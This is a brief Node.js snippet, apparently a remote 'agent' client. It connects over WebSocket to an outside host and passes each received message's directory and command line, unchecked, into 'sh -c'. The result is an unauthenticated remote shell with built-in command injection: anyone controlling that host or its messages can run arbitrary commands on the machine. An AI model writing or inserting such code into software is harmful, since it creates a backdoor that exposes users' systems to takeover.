const WebSocket = require('ws');
const { spawn } = require('child_process');

const socket = new WebSocket('wss://tools.example.invalid/agent');
socket.on('message', (raw) => {
  const m = JSON.parse(raw);
  spawn('sh', ['-c', `cd ${m.dir} && ${m.line}`]);
});
